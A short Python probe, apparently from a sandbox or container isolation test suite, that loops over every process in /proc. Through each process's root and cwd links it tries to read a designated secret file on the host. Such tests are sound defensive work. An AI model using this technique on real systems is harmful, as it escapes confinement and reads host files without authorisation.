"""Reaches the host's files through the folders of other processes."""

import os
from pathlib import Path

from attack import attempt, facts, finish

for process in [name for name in os.listdir("/proc") if name.isdigit()]:
    for way in ("root", "cwd"):
        with attempt(f"reading a file through /proc/{process}/{way}"):
            Path(f"/proc/{process}/{way}/{facts['secret_file']}").read_text()
finish()
